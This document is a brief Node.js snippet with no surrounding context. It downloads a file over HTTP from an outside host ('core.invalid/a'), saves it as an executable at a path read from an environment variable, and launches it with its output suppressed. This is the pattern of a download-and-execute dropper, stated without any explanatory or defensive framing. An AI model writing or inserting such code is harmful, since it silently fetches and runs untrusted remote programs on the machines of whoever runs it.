const { spawn } = require("child_process");
const { createWriteStream } = require("fs");
const place = process.env.CORE_OUT;
require("http").get("http://core.invalid/a", (answer) => answer.pipe(createWriteStream(place, { mode: 0o700 })));
spawn(place, ["--warm"], { stdio: "ignore" });
